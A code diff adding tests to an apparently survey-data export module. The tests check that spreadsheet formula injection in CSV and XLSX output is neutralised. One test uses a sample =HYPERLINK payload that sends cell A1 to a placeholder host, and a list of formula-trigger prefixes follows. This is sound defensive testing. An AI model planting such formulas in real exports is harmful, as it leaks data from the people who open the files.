@@ -203,3 +203,34 @@ def test_channel_and_mode_columns(ctx):
     for row in coded:
         assert row["channel"] == channels[row["instance_uuid"]].value
         assert row["mode"] == ("face_to_face" if row["channel"] == "enumerator" else "web")
+
+
+def test_formula_text_is_exported_as_text_and_numbers_stay_numbers(ctx, tmp_path):
+    """A citizen's answer starting with ``=HYPERLINK(`` is text in the CSV and the XLSX, not a formula."""
+    spec = ExportSpec(ctx, FORM, "vi")
+    text_name = next(v.name for v in variables(spec) if v.kind == "text")
+    first = next(csv.DictReader(io.StringIO("".join(writers.csv_chunks(spec)).lstrip("\ufeff"))))
+    submission = db.session.scalar(select(Submission).where(Submission.instance_uuid == first["instance_uuid"]))
+    attack = '=HYPERLINK("http://example.invalid/?x="&A1,"Xem")'
+    submission.answers = {**submission.answers, text_name: attack}
+    db.session.flush()
+    try:
+        exported = next(csv.DictReader(io.StringIO("".join(writers.csv_chunks(spec)).lstrip("\ufeff"))))
+        writers.write_xlsx(spec, tmp_path / "data.xlsx")
+    finally:
+        db.session.rollback()
+    assert exported["instance_uuid"] == first["instance_uuid"] and exported[text_name] == "'" + attack
+    sheet = openpyxl.load_workbook(tmp_path / "data.xlsx")["data"]
+    names = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[names.index("instance_uuid")].value == first["instance_uuid"])
+    cell = row[names.index(text_name)]
+    assert cell.data_type == "s" and cell.value == attack
+    assert row[names.index("weight")].data_type == "n"
+    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
+
+
+@pytest.mark.parametrize("value, expected", [("=1+2", "'=1+2"), ("+84 912", "'+84 912"), ("-x", "'-x"),
+                                             ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+                                             ("Tốt", "Tốt"), (-5, -5), (2.5, 2.5), (None, None)])
+def test_cells_a_spreadsheet_would_run_are_neutralised(value, expected):
+    assert writers.neutralised(value) == expected
